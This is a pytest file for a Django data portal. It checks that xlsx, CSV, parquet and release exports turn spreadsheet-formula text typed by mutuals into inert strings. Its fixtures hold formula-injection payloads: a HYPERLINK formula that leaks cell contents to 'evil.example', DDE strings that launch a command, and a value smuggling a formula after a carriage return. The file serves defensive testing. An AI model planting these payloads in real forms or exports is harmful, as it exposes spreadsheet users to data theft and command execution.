"""No file the portal writes for others to open holds a live spreadsheet formula: a mutual's texts
typed as `=HYPERLINK(…)`, `+…`, `-…`, `@…`, or starting with a tab or a carriage return, once
validated, are typed strings in the workbooks (no `<f>` element), carry a leading `'` in the CSV
files, and the numbers stay numbers; frozen releases are checked by `check_release_formulas`."""

import csv
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import translation

from inventory.contract.choices import ReturnState
from inventory.models import InventoryState, Release
from inventory.opendata import package, releases
from inventory.returns import offline_form
from inventory.returns.services import return_validate
from portal.accounts.roles import Role
from portal.core.spreadsheets import typed_text
from portal.reference.models import Country
from tests.factories import CountryFactory, MutualFactory, ReturnFactory, UserFactory

pytestmark = pytest.mark.django_db

# What a hostile mutual manager types, one per character a spreadsheet runs a cell on.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A carriage return inside a text: a spreadsheet starts a new row there unless the cell is quoted.
SMUGGLED = 'Thiès\r=HYPERLINK("http://evil.example","Click")'
NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def hostile(django_capture_on_commit_callbacks):
    """One public mutual per payload, typed in its name, region, locality and its return's software,
    each return submitted then validated by the secretariat; and a mutual whose members fell from
    1000 to 800 (a growth rate of -0.2, a negative number that must stay one) and whose locality
    hides a formula after a carriage return."""
    country = CountryFactory(code="SN", currency="XOF")
    secretariat = UserFactory(roles=[Role.SECRETARIAT])
    returns = []
    for payload in PAYLOADS:
        mutual = MutualFactory(country=country, name=payload, region=payload, locality=payload)
        returns.append(ReturnFactory(mutual=mutual, year=2025, state=ReturnState.SUBMITTED,
                                     status="functional", members=100, software=payload, currency="XOF"))
    shrinking = MutualFactory(country=country, name="Mutuelle de Fatick", locality=SMUGGLED)
    ReturnFactory(mutual=shrinking, year=2024, state=ReturnState.VALIDATED, status="functional", members=1000)
    returns.append(ReturnFactory(mutual=shrinking, year=2025, state=ReturnState.SUBMITTED,
                                 status="functional", members=800))
    for ret in returns:
        with django_capture_on_commit_callbacks(execute=True):
            return_validate(ret=ret, user=secretariat)
    return secretariat


def file_url(name):
    return reverse("inventory:dataset_file", args=[name])


def download(client, path) -> bytes:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_records(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheets_xml(data: bytes) -> dict[str, ElementTree.Element]:
    """{sheet name: its XML}, read from the workbook's parts (not through openpyxl)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels}
        rel_id = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
        return {
            sheet.get("name"): ElementTree.fromstring(
                archive.read("xl/" + targets[sheet.get(rel_id)].removeprefix("/xl/")))
            for sheet in book.iter(NAMESPACE + "sheet")
        }


def cell_text(cell) -> str:
    return "".join(t.text or "" for t in cell.iter(NAMESPACE + "t"))


def assert_no_formula_and_payloads_are_strings(data: bytes):
    """No `<f>` in any sheet; every cell holding a payload is a string cell with the text typed."""
    found = set()
    for name, sheet in sheets_xml(data).items():
        assert sheet.find(f".//{NAMESPACE}f") is None, f"a formula in sheet {name}"
        for cell in sheet.iter(NAMESPACE + "c"):
            text = cell_text(cell)
            # XML turns a carriage return in text into a line feed when read back.
            for payload in PAYLOADS:
                if text and text == payload.replace("\r", "\n"):
                    assert cell.get("t") in ("inlineStr", "s"), (name, cell.get("r"), cell.get("t"))
                    found.add(payload)
    assert found == set(PAYLOADS)


def assert_csv_neutralised(data: bytes):
    rows = csv_records(data)
    hostile_rows = [r for r in rows if typed_text(r["mutual_name"]) in PAYLOADS]
    assert len(hostile_rows) == len(PAYLOADS)
    for row in hostile_rows:
        typed = typed_text(row["mutual_name"])
        for column in ("mutual_name", "region", "locality", "software"):
            assert row[column] == "'" + typed, (column, row[column])
        assert row["members"] == "100"
    fatick = next(r for r in rows if r["mutual_name"] == "Mutuelle de Fatick" and r["year"] == "2025")
    assert fatick["growth_rate"] == "-0.2"  # a negative number is a number: never altered
    assert fatick["locality"] == SMUGGLED  # quoted: no row starts after its carriage return
    assert len(rows) == len(PAYLOADS) + 2
    for row in rows:  # nothing left that a spreadsheet would run: only negative numbers start so
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert float(cell) < 0, (column, cell)


# --- The current data ---------------------------------------------------------------------------------

def test_the_workbook_holds_no_formula_whatever_a_mutual_typed(client, hostile):
    data = download(client, file_url("inventory.xlsx"))
    assert_no_formula_and_payloads_are_strings(data)
    # Read back, the cells hold the texts typed (nothing added), and numbers as numbers.
    book = openpyxl.load_workbook(io.BytesIO(data))
    header, *body = list(book["returns"].iter_rows(values_only=True))
    rows = [dict(zip(header, values, strict=True)) for values in body]
    assert {r["software"] for r in rows if r["software"]} == {p.replace("\r", "\n") for p in PAYLOADS}
    fatick = next(r for r in rows if r["mutual_name"] == "Mutuelle de Fatick" and r["year"] == 2025)
    assert fatick["growth_rate"] == -0.2


def test_the_csv_files_neutralise_formula_text_and_keep_numbers(client, hostile):
    streamed = download(client, file_url("returns.csv"))
    assert_csv_neutralised(streamed)
    out = io.StringIO()
    call_command("export_inventory", "--what", "returns", stdout=out, stderr=io.StringIO())
    assert out.getvalue().encode() == streamed


def test_the_api_and_parquet_give_the_text_as_typed(client, hostile):
    """Read by programs, never run by a spreadsheet: the text typed, without the CSV's quote."""
    import pyarrow.parquet as pq

    table = pq.read_table(io.BytesIO(download(client, file_url("returns.parquet"))))
    assert {s for s in table.column("software").to_pylist() if s} == set(PAYLOADS)


# --- Releases ----------------------------------------------------------------------------------------

def publish(user, version="1.0") -> Release:
    return releases.release_publish(name="Inventaire 2025", version=version, changelog="", user=user,
                                    inventory_version=InventoryState.current_version())


def release_bytes(release: Release, filename: str) -> bytes:
    with release.files.get(filename=filename).file.open("rb") as stream:
        return stream.read()


def test_a_new_release_holds_no_formula_and_the_check_finds_it_clean(hostile):
    release = publish(hostile)
    assert_no_formula_and_payloads_are_strings(release_bytes(release, "inventory.xlsx"))
    assert_csv_neutralised(release_bytes(release, "returns.csv"))
    with zipfile.ZipFile(io.BytesIO(release_bytes(release, package.ZIP_NAME))) as archive:
        assert_no_formula_and_payloads_are_strings(archive.read(f"{release.folder}/inventory.xlsx"))
        assert_csv_neutralised(archive.read(f"{release.folder}/returns.csv"))
    out = io.StringIO()
    call_command("check_release_formulas", stdout=out)
    assert "No formula-like cell" in out.getvalue() and "1 release(s)" in out.getvalue()


def _plant(release: Release, filename: str, data: bytes) -> None:
    """Stand-in for a release frozen by the old writers: its stored file overwritten on disk (the
    portal itself never rewrites one)."""
    Path(default_storage.path(release.files.get(filename=filename).file.name)).write_bytes(data)


def _old_workbook() -> bytes:
    """A workbook as openpyxl wrote a text starting with `=` before: a live formula."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "returns"
    sheet.append(["mutual_id", "mutual_name"])
    sheet.append(["SN-0001", '=HYPERLINK("http://evil.example","Click")'])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_check_reports_each_planted_cell_and_fails(hostile):
    release = publish(hostile)
    planted_csv = release_bytes(release, "returns.csv").decode().replace(
        "'" + PAYLOADS[1], PAYLOADS[1], 1).encode()
    _plant(release, "returns.csv", planted_csv)
    _plant(release, "inventory.xlsx", _old_workbook())
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr(f"{release.folder}/synthesis.csv",
                         "country,year,note\nSN,2025,@SUM(A1)\nSN,2024,-3.5\n")
    _plant(release, package.ZIP_NAME, zipped.getvalue())

    out = io.StringIO()
    with pytest.raises(CommandError, match="3 cell"):
        call_command("check_release_formulas", stdout=out)
    report = out.getvalue()
    assert f"Inventaire 2025 v1.0 [{release.folder}] returns.csv row " in report
    assert "column mutual_name: \"+cmd|' /C calc'!A0\"" in report
    assert "inventory.xlsx sheet returns row 2 column B2: '=HYPERLINK" in report
    assert f"inventory.zip:{release.folder}/synthesis.csv row 2 column note: '@SUM(A1)'" in report
    assert "-3.5" not in report  # a negative number is no formula
    # Only reads: the planted files are still there, byte for byte.
    assert release_bytes(release, "returns.csv") == planted_csv


# --- The other files for others to open -----------------------------------------------------------------

def test_the_charts_csv_neutralises_a_country_named_like_a_formula(client):
    country = CountryFactory(code="SN")
    Country.objects.filter(code="SN").update(name_en='=HYPERLINK("http://evil.example","Senegal")')
    country.refresh_from_db()
    ReturnFactory(mutual=MutualFactory(country=country), year=2025, state=ReturnState.VALIDATED,
                  status="functional", members=10)
    with translation.override("en"):
        path = reverse("inventory:overview_csv", args=["map"])
    records = list(csv.reader(io.StringIO(download(client, path).decode("utf-8"))))
    senegal = next(r for r in records if r[0] == "SN")
    assert senegal[1] == "'" + country.name_en


@pytest.mark.parametrize("text", ["+221 33 000 00 00", "-Thiès", "@mutuelle", "#REF!", "=1+1"])
def test_the_offline_form_keeps_each_text_as_a_typed_string(text):
    mutual = MutualFactory(locality=text, region=text)
    data = offline_form.build_workbook(mutual, 2025)
    sheet = sheets_xml(data)[offline_form.DATA_SHEET]
    assert sheet.find(f".//{NAMESPACE}f") is None
    cells = [c for c in sheet.iter(NAMESPACE + "c") if cell_text(c) == text]
    assert len(cells) == 2 and {c.get("t") for c in cells} == {"inlineStr"}


def test_the_codebook_says_how_to_read_a_quoted_text_cell(client):
    ReturnFactory(year=2025, state=ReturnState.VALIDATED, status="functional", members=10)
    with translation.override("en"):
        page = download(client, reverse("inventory:codebook")).decode()
    assert "remove the first character of every text cell that starts with an apostrophe" in page
    frozen = download(client, file_url("codebook.html")).decode()
    assert "retirez le premier caractère de chaque cellule de texte qui commence par une apostrophe" in frozen
    assert "remove the first character of every text cell that starts with an apostrophe" in frozen


def test_the_admins_export_of_the_mutuals_carries_no_live_formula(client):
    """Wagtail's own listing export, as the secretariat downloads it (a sign-up's name and locality)."""
    MutualFactory(name=PAYLOADS[0], locality="#REF!", region=PAYLOADS[3])
    client.force_login(UserFactory(roles=[Role.SECRETARIAT]))
    listing = reverse("wagtailsnippets_inventory_mutual:list")
    data = download(client, listing + "?export=csv").decode("utf-8-sig")
    # The columns of MutualViewSet.list_export: mutual_id, name, acronym, country, region, locality…
    row = next(r for r in csv.reader(io.StringIO(data, newline="")) if typed_text(r[1]) == PAYLOADS[0])
    assert row[1] == "'" + PAYLOADS[0] and row[4] == "'" + PAYLOADS[3] and row[5] == "#REF!"
    sheet = next(iter(sheets_xml(download(client, listing + "?export=xlsx")).values()))
    assert sheet.find(f".//{NAMESPACE}f") is None
    cells = [c for c in sheet.iter(NAMESPACE + "c") if cell_text(c) in (PAYLOADS[0], "#REF!", PAYLOADS[3])]
    assert len(cells) == 3 and {c.get("t") for c in cells} == {"inlineStr"}


def test_a_control_character_in_a_name_does_not_stop_the_workbook(client):
    ReturnFactory(mutual=MutualFactory(name="Mutuelle\x01 de Thiès"), year=2025, state=ReturnState.VALIDATED,
                  status="functional", members=10)
    book = openpyxl.load_workbook(io.BytesIO(download(client, file_url("inventory.xlsx"))))
    assert book["returns"]["B2"].value == "Mutuelle\ufffd de Thiès"
    assert csv_records(download(client, file_url("returns.csv")))[0]["mutual_name"] == "Mutuelle\x01 de Thiès"
